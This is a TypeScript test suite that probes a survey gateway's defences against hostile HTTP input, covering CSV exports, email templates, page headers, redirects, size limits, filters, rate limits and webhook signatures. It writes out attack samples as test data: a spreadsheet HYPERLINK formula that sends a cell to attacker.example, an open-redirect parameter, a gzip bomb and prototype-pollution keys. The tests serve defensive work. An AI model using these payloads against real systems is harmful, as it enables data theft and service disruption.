import { randomUUID } from 'node:crypto';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import request from 'supertest';
import { ApiKeyService } from '../apps/gateway/src/auth/api-key.service';
import { GatewayModule } from '@fg/gateway';
import { createApp, initApp } from '@fg/platform';
import { IdempotencyService } from '../apps/gateway/src/links/idempotency.service';
import { opsApi } from './support/ops-api';
import { SendGridWebhookSigner } from './support/sendgrid-stub';
import { Pipeline, testConfig } from './support/pipeline';

const PUBLIC = 'https://surveys.example.test';
const pathOf = (url: string) => url.slice(PUBLIC.length);
const BOM = '\uFEFF';
const QUESTIONS = [
  { id: 'nps', type: 'nps', required: true, label: { en: 'How likely are you to recommend us?' } },
  { id: 'comment', type: 'free_text', label: { en: 'Anything else?' } },
];

/**
 * Issue #11 over the gateway's HTTP surface: what an attacker or a careless integration sends gets a clear 4xx
 * that names the field, and what we hand out (CSV, emails, pages) can't be turned against its reader.
 */
/** A POST with these exact bytes (supertest would serialise a Buffer sent as JSON). */
async function rawPostTo(server: Server, path: string, headers: Record<string, string>, body: Buffer) {
  const listening = server.listen(0);
  await new Promise((r) => listening.once('listening', r));
  try {
    const { port } = listening.address() as AddressInfo;
    const res = await fetch(`http://127.0.0.1:${port}${path}`, { method: 'POST', headers, body });
    return { status: res.status, body: await res.text() };
  } finally {
    await new Promise((r) => listening.close(r));
  }
}

describe('hostile input at the HTTP edge', () => {
  let pipeline: Pipeline;
  let key: string;
  const signer = new SendGridWebhookSigner();

  beforeAll(async () => {
    const config = testConfig({
      PUBLIC_BASE_URL: PUBLIC,
      SENDGRID_WEBHOOK_PUBLIC_KEY: signer.publicKeyBase64,
      TRUST_PROXY: 'loopback',
    });
    pipeline = await new Pipeline(config).start(['gateway']);
    key = (
      await pipeline.apps
        .get('gateway')!
        .get(ApiKeyService)
        .create('hostile', ['distribution:edit', 'distribution:view', 'rules:configure'])
    ).key;
  });

  afterAll(async () => {
    await pipeline?.close();
  });

  const api = opsApi(
    () => pipeline.gateway,
    () => key,
  );
  const rawPost = (path: string, headers: Record<string, string>, body: Buffer) =>
    rawPostTo(pipeline.gateway, path, headers, body);

  async function distribution() {
    const survey = await api
      .post('/ops/surveys', { name: 'CSAT', languages: ['en'], questions: QUESTIONS })
      .expect(201);
    const d = await api
      .post('/ops/distributions', { surveyId: survey.body.id, name: 'Resolved', tags: { program: 'csat' } })
      .expect(201);
    return d.body.id as string;
  }
  const link = (distributionId: string, contact: Record<string, unknown> = {}) =>
    api
      .post('/ops/links', {
        distributionId,
        contact: { id: `c-${randomUUID()}`, name: 'Ada Lovelace', email: 'ada@example.com', ...contact },
      })
      .expect(201)
      .then((r) => r.body as { linkId: string; url: string });

  describe('CSV exports', () => {
    it('neutralises formulas in answers and names, starts with a BOM and downloads as a file', async () => {
      const d = await distribution();
      const formula = '=HYPERLINK("https://attacker.example/?x="&A2,"Click")';
      for (const comment of [formula, '\t=1+1', '\r@SUM(A1)', '+1-2', 'Crème brûlée, “quoted”']) {
        const l = await link(d);
        await request(pipeline.gateway)
          .post(pathOf(l.url))
          .type('form')
          .send({ 'q.nps': '9', 'q.comment': comment, action: 'submit' })
          .expect(200);
      }
      const res = await api.get(`/ops/distributions/${d}/responses.csv`).expect(200);
      expect(res.headers['content-disposition']).toBe(`attachment; filename="responses-${d}.csv"`);
      expect(res.text.startsWith(BOM)).toBe(true);
      const cells = res.text
        .slice(BOM.length)
        .split('\r\n')
        .slice(1)
        .filter(Boolean)
        .map((line) => line.split(',')[8]);
      // Every cell a spreadsheet would evaluate starts with an apostrophe; text stays text.
      expect(res.text).toContain(`"'=HYPERLINK(""https://attacker.example/?x=""&A2,""Click"")"`);
      expect(res.text).toContain(`'\t=1+1`);
      expect(res.text).toContain(`'\r@SUM(A1)`);
      expect(cells).toContain(`'+1-2`);
      expect(res.text).toContain('Crème brûlée');
      expect(res.text).not.toMatch(/(^|,|\r\n)"?[=+@\t]/);
    });

    it('neutralises formulas in the bulk-links CSV (names come from a CRM)', async () => {
      const d = await distribution();
      const tag = randomUUID().slice(0, 8);
      await api
        .post('/ops/contacts', {
          contacts: [{ id: `x-${tag}`, firstName: '=1+2', lastName: '@SUM(A1)', attributes: { batch: tag } }],
        })
        .expect(201);
      const seg = await api
        .post('/ops/segments', { name: 's', filter: { attribute: 'batch', op: 'equals', value: tag } })
        .expect(201);
      const res = await api
        .post(`/ops/distributions/${d}/bulk-links`, { segmentId: seg.body.id })
        .expect(200);
      expect(res.text.startsWith(BOM)).toBe(true);
      const [header, row] = res.text.slice(BOM.length).split('\r\n');
      expect(header).toBe('contact id,custom id,first name,last name,email,personal link');
      expect(row.split(',').slice(2, 4)).toEqual([`'=1+2`, `'@SUM(A1)`]);
    });

    it('answers 400 naming the field for a status that does not exist', async () => {
      const d = await distribution();
      const res = await api.get(`/ops/distributions/${d}/responses.csv?status=Bogus`).expect(400);
      expect(res.body.error.details.fields.map((f: { field: string }) => f.field)).toEqual(['status']);
    });
  });

  describe('email templates', () => {
    it('refuses a template that inserts a CRM value unescaped, naming the placeholder', async () => {
      const d = await distribution();
      for (const html of ['<p>{{{customer_name}}}</p>', '<p>{{& customer_name}}</p>']) {
        const res = await api
          .put(`/ops/distributions/${d}/templates`, {
            channel: 'email',
            kind: 'invitation',
            language: 'en',
            subject: 'Hi',
            html,
            text: 'Hi {{customer_name}}',
          })
          .expect(400);
        expect(res.body.error.details.fields).toEqual([
          { field: 'html', message: expect.stringContaining('{{{customer_name}}}') },
        ]);
      }
      expect((await api.get(`/ops/distributions/${d}/templates`).expect(200)).body).toEqual([]);
    });
  });

  describe('survey pages', () => {
    it('may not be framed, leak the token in a Referer, run foreign script or be sniffed', async () => {
      const l = await link(await distribution());
      for (const res of [
        await request(pipeline.gateway).get(pathOf(l.url)).expect(200),
        await request(pipeline.gateway).get('/s/not-a-token').expect(404),
      ]) {
        expect(res.headers['referrer-policy']).toBe('no-referrer');
        expect(res.headers['x-frame-options']).toBe('DENY');
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        const csp = res.headers['content-security-policy'];
        expect(csp).toContain("default-src 'none'");
        expect(csp).toContain("frame-ancestors 'none'");
        expect(csp).toContain("form-action 'self'");
        // Our own script only (the open beacon): no inline script, no other origin.
        expect(csp).toContain("script-src 'self'");
        expect(csp).not.toMatch(/script-src[^;]*('unsafe|https?:|\*)/);
      }
    });

    it('redirects after saving to the page it built, not to whatever path the request carried', async () => {
      const l = await link(await distribution());
      const token = pathOf(l.url).slice('/s/'.length);
      const res = await request(pipeline.gateway)
        .post(`${pathOf(l.url)}?next=//attacker.example/`)
        .type('form')
        .send({ 'q.nps': '5', action: 'save' })
        .expect(303);
      expect(res.headers.location).toBe(`${token}?saved=1`);
      expect(new URL(res.headers.location, `${PUBLIC}/s/${token}?x=1`).pathname).toBe(`/s/${token}`);
    });
  });

  describe('sizes, types and shapes', () => {
    const fields = (res: request.Response) =>
      (res.body.error.details?.fields ?? []).map((f: { field: string }) => f.field) as string[];

    it('answers 413, not 500, for bodies past their limit, compressed or not', async () => {
      const d = await distribution();
      const big = { distributionId: d, contact: { id: 'x', name: 'a'.repeat(1_100_000) } };
      const json = await api.post('/ops/links', big).expect(413);
      expect(json.body.error.code).toBe('PAYLOAD_TOO_LARGE');
      const l = await link(d);
      await request(pipeline.gateway)
        .post(pathOf(l.url))
        .type('form')
        .send(`q.comment=${'a'.repeat(200_000)}&action=save`)
        .expect(413);
      const bomb = gzipSync(Buffer.from(JSON.stringify({ contacts: [{ name: 'a'.repeat(10_000_000) }] })));
      expect(bomb.length).toBeLessThan(100_000);
      const headers = {
        Authorization: `Bearer ${key}`,
        'Content-Type': 'application/json',
        'Content-Encoding': 'gzip',
      };
      expect((await rawPost('/ops/links', headers, bomb)).status).toBe(413);
      expect((await rawPost('/ops/links', headers, Buffer.from('not gzip at all'))).status).toBe(400);
      const broken = await request(pipeline.gateway)
        .post('/ops/links')
        .set('Authorization', `Bearer ${key}`)
        .set('Content-Type', 'application/json')
        .send('{"distributionId": ')
        .expect(400);
      expect(broken.body.error.message).toMatch(/JSON/);
    });

    it('takes the documented 10 000 contacts in one call, and refuses more with the field named', async () => {
      const tag = randomUUID().slice(0, 8);
      const contacts = Array.from({ length: 10_000 }, (_, i) => ({
        id: `bulk-${tag}-${i}`,
        name: `Customer Number${i}`,
        email: `customer.number${i}@example.com`,
        phone: `+1415555${String(i).padStart(4, '0')}`,
        language: 'en',
        attributes: { batch: tag, plan: i % 2 ? 'pro' : 'free', region: 'emea' },
      }));
      expect(JSON.stringify({ contacts }).length).toBeGreaterThan(1_500_000);
      expect((await api.post('/ops/contacts', { contacts }).expect(201)).body).toEqual({ upserted: 10_000 });
      const more = await api.post('/ops/contacts', { contacts: [...contacts, contacts[0]] }).expect(400);
      expect(fields(more)).toEqual(['contacts']);
      await api
        .post('/ops/contacts', {
          contacts: [{ id: 'x', name: 'a', attributes: { blob: 'b'.repeat(17_000_000) } }],
        })
        .expect(413);
    });

    it('refuses answers that are not text, and text past its bound, storing nothing', async () => {
      const d = await distribution();
      const l = await link(d);
      for (const bad of [{ 'q.comment': null }, { 'q.comment': { a: 1 } }, { 'q.nps': ['5'] }]) {
        const res = await request(pipeline.gateway)
          .post(pathOf(l.url))
          .send({ ...bad, action: 'save' })
          .expect(400);
        expect(res.text).toContain('needs an answer as text');
      }
      const long = await request(pipeline.gateway)
        .post(pathOf(l.url))
        .send({ 'q.comment': 'x'.repeat(944_000), action: 'save' })
        .expect(400);
      expect(long.text).toContain('longer than 5000 characters');
      expect(await pipeline.ds.query(`SELECT 1 FROM responses WHERE link_id = $1`, [l.linkId])).toEqual([]);
    });

    it('refuses a language that is not a language tag, and renders pages whatever the stored language', async () => {
      const d = await distribution();
      const res = await api
        .post('/ops/links', {
          distributionId: d,
          contact: { id: 'c-1', name: 'Ada' },
          language: 'constructor',
        })
        .expect(400);
      expect(fields(res)).toEqual(['language']);
      // A link stored before the check (or by another writer) still renders.
      const l = await link(d);
      await pipeline.ds.query(`UPDATE survey_links SET language = '__proto__' WHERE id = $1`, [l.linkId]);
      const page = await request(pipeline.gateway).get(pathOf(l.url)).expect(200);
      expect(page.text).toContain('How likely are you to recommend us?');
    });

    it('treats __proto__ and constructor as plain attribute names in segments', async () => {
      const tag = randomUUID().slice(0, 8);
      await api
        .post('/ops/contacts', {
          contacts: [{ id: `p-${tag}`, name: 'Proto', attributes: { batch: tag, constructor: 'yes' } }],
        })
        .expect(201);
      for (const attribute of ['__proto__', 'constructor', 'attributes.__proto__']) {
        const res = await api
          .post('/ops/segments', {
            name: 'proto',
            filter: {
              all: [
                { attribute: 'batch', op: 'equals', value: tag },
                { attribute, op: 'exists' },
              ],
            },
          })
          .expect(201);
        expect(res.body.contacts).toBe(attribute === 'constructor' ? 1 : 0);
      }
    });

    it('caps how deep and how large rule conditions and segment filters are, naming the part', async () => {
      const d = await distribution();
      let deep: unknown = { field: 'status', op: 'equals', value: 'Resolved' };
      for (let i = 0; i < 1_000; i++) deep = { all: [deep] };
      const rule = (conditions: unknown) => ({
        name: 'deep',
        trigger: 'case.updated',
        enabled: false,
        conditions,
        actions: [{ type: 'send_invitation', distributionId: d, channel: 'email' }],
      });
      const tooDeep = await api.post('/ops/rules', rule(deep)).expect(400);
      expect(fields(tooDeep)[0]).toMatch(/^conditions(\.all(\.0)?)+$/);
      let nine: unknown = { field: 'status', op: 'exists' };
      for (let i = 0; i < 9; i++) nine = { any: [nine] };
      const nested = await api.post('/ops/rules', rule(nine)).expect(400);
      expect(nested.body.error.details.fields[0].message).toContain('at most 8 levels');
      const wide = {
        any: Array.from({ length: 5_000 }, (_, i) => ({ field: 'status', op: 'equals', value: `s${i}` })),
      };
      const tooMany = await api.post('/ops/rules', rule(wide)).expect(400);
      expect(tooMany.body.error.details.fields).toEqual([
        { field: 'conditions', message: 'at most 200 conditions (this has 5000)' },
      ]);
      const bigIn = await api
        .post(
          '/ops/rules',
          rule({ field: 'status', op: 'in', value: Array.from({ length: 101 }, (_, i) => `v${i}`) }),
        )
        .expect(400);
      expect(fields(bigIn)).toEqual(['conditions.value']);

      let seg: unknown = { attribute: 'plan', op: 'exists' };
      for (let i = 0; i < 1_000; i++) seg = { any: [seg] };
      const segDeep = await api.post('/ops/segments', { name: 'deep', filter: seg }).expect(400);
      expect(fields(segDeep)[0]).toMatch(/^filter(\.any(\.0)?)+$/);
      expect((await pipeline.ds.query(`SELECT count(*)::int AS n FROM rules WHERE name = 'deep'`))[0].n).toBe(
        0,
      );
    });
  });

  describe('working links at rest', () => {
    it('keeps idempotent answers without the URL, and forgets them after the retention window', async () => {
      const d = await distribution();
      const body = { distributionId: d, contact: { id: `c-${randomUUID()}`, name: 'Ada Lovelace' } };
      const k = randomUUID();
      const first = await api.post('/ops/links', body, { 'Idempotency-Key': k }).expect(201);
      const replay = await api.post('/ops/links', body, { 'Idempotency-Key': k }).expect(201);
      expect(replay.headers['idempotent-replayed']).toBe('true');
      expect(replay.body).toEqual(first.body);
      expect(first.body.url).toMatch(new RegExp(`^${PUBLIC}/s/[A-Za-z0-9_-]{22}$`));
      const [stored] = await pipeline.ds.query(
        `SELECT response::text AS r FROM idempotency_keys WHERE key = $1`,
        [k],
      );
      expect(stored.r).not.toContain(pathOf(first.body.url));
      expect(stored.r).toContain(`fg-link:${first.body.linkId}`);

      // Past IDEMPOTENCY_RETENTION_HOURS (24 h) the key is forgotten: the same key is a new request.
      await pipeline.ds.query(
        `UPDATE idempotency_keys SET created_at = created_at - interval '25 hours' WHERE key = $1`,
        [k],
      );
      const pruned = await pipeline.apps.get('gateway')!.get(IdempotencyService).prune();
      expect(pruned).toBeGreaterThanOrEqual(1);
      expect(await pipeline.ds.query(`SELECT 1 FROM idempotency_keys WHERE key = $1`, [k])).toEqual([]);
      const again = await api.post('/ops/links', body, { 'Idempotency-Key': k }).expect(201);
      expect(again.headers['idempotent-replayed']).toBeUndefined();
      expect(again.body.linkId).not.toBe(first.body.linkId);
    });
  });

  describe('guess limiting', () => {
    it('holds across gateway instances and never refuses a valid link', async () => {
      const l = await link(await distribution());
      const second = await createApp({
        app: 'gateway',
        config: pipeline.config,
        features: [GatewayModule],
        logger: false,
      });
      await initApp(second);
      try {
        const ip = `10.${Math.floor(Math.random() * 200)}.7.7`;
        const guess = (server: Server) =>
          request(server)
            .get(`/s/${randomUUID().slice(0, 22)}`)
            .set('X-Forwarded-For', ip);
        // 30 misses a minute (the default), spread over both instances; the 31st is refused on either.
        for (let i = 0; i < 30; i++)
          await guess(i % 2 ? pipeline.gateway : second.getHttpServer()).expect(404);
        await guess(pipeline.gateway).expect(429);
        await guess(second.getHttpServer()).expect(429);
        await request(second.getHttpServer()).get(pathOf(l.url)).set('X-Forwarded-For', ip).expect(200);
      } finally {
        await second.close();
      }
    });
  });

  describe('provider webhooks', () => {
    const events = JSON.stringify([
      { event: 'delivered', invite_id: randomUUID(), sg_event_id: 'e1', timestamp: 1_700_000_000 },
    ]);
    const post = (body: string, headers: Record<string, string>) =>
      rawPostTo(
        pipeline.gateway,
        '/webhooks/sendgrid',
        { 'Content-Type': 'application/json', ...headers },
        Buffer.from(body),
      );

    it('refuses a SendGrid batch signed outside the window SendGrid’s own retries need (25 h)', async () => {
      expect((await post(events, signer.sign(events))).status).toBe(200);
      const hours = (h: number) => String(Math.floor(Date.now() / 1000) - h * 3600);
      expect((await post(events, signer.sign(events, hours(24)))).status).toBe(200);
      expect((await post(events, signer.sign(events, '1556668800'))).status).toBe(401); // 1 May 2019
      expect((await post(events, signer.sign(events, hours(26)))).status).toBe(401);
      expect((await post(events, signer.sign(events, hours(-1)))).status).toBe(401);
    });

    it('checks the signature over the raw bytes before parsing them: anything forged is 401', async () => {
      const forged = await post('this is { not json', {
        'X-Twilio-Email-Event-Webhook-Signature': 'MEUCIQ==',
        'X-Twilio-Email-Event-Webhook-Timestamp': String(Math.floor(Date.now() / 1000)),
      });
      expect(forged.status).toBe(401);
      expect((await post('this is { not json', {})).status).toBe(401);
      const signedGarbage = await post('this is { not json', signer.sign('this is { not json'));
      expect(signedGarbage.status).toBe(400);
      // Re-serialised JSON (whitespace changed) no longer matches the signature.
      expect((await post(JSON.stringify(JSON.parse(events), null, 1), signer.sign(events))).status).toBe(401);
    });
  });
});
